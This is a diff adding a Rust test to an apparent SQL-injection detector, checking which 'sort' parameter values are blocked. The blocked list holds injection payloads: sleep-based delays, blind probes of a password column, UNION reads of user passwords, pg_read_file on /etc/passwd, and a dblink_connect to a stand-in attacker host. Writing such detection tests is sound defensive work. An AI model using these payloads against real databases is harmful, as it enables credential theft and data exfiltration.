@@ -698,3 +698,46 @@ fn clauses_and_columns_behind_a_quote() {
         testing::passes_at(Class::Sqli, Place::Form, "name", text);
     }
 }
+
+/// Values in place of a column, a list of columns or a table.
+#[test]
+fn expressions_in_place_of_a_name() {
+    let look = |name: &str, text: &str| testing::look(Class::Sqli, Place::Query, name, text.as_bytes());
+    for text in [
+        "price,sleep(5)",
+        "name desc,pg_sleep(10)",
+        "case when password like 'a%' then id else price end",
+        "id*(password like 'a%')",
+        "*,(select password from users)",
+        "name,(select password from users)",
+        "id from users union select password from users",
+        "(select id,password as name from users)x",
+        "-sleep(5)",
+        "(sleep(5))",
+        "sleep(5)*1",
+        "sleep(5)=0",
+        "1-db_name()",
+        "name,pg_read_file('/etc/passwd')",
+        "id,dblink_connect('host=evil.example')",
+    ] {
+        let (have, is_blocked) = look("sort", text);
+        assert!(is_blocked && have.contains("expression"), "{text}: {have}");
+    }
+    for text in [
+        "price desc, name asc",
+        "-price,name",
+        "coalesce(price,0)",
+        "score desc,sum(x,y) asc",
+        "length(Name)",
+        "Sizes (select one from the list)",
+        "Sizes, (select one from the list)",
+        "eat, sleep (8), repeat",
+        "time.sleep(5)",
+        "1-abs(x)",
+        "2*(a > b)",
+    ] {
+        let (have, is_blocked) = look("sort", text);
+        assert!(!is_blocked, "{text}: {have}");
+    }
+    assert!(!look("q", "price,sleep(5)").1);
+}
